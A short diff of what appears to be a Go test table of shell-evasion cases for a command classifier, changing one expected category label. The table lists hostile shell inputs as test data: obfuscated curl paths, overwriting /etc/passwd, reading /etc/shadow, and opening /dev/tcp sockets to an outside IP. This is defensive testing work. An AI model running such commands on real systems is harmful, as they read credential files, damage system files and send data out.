@@ -192,7 +192,7 @@ var shEvasions = []evasion{
 	{"/b?n/c?rl http://x", "shell.command_dynamic"},
 	{"/usr/bin/curl http://x", "shell.http"},
 	{"./curl http://x", "shell.command_unknown"},
-	{"echo x > /etc/passwd", "shell.write"},
+	{"echo x > /etc/passwd", "shell.write_elsewhere"},
 	{"echo x >/dev/tcp/1.2.3.4/5", "shell.socket"},
 	{"exec 3<>/dev/tcp/1.2.3.4/5", "shell.socket"},
 	{"cat /etc/shadow", "shell.read_elsewhere"},
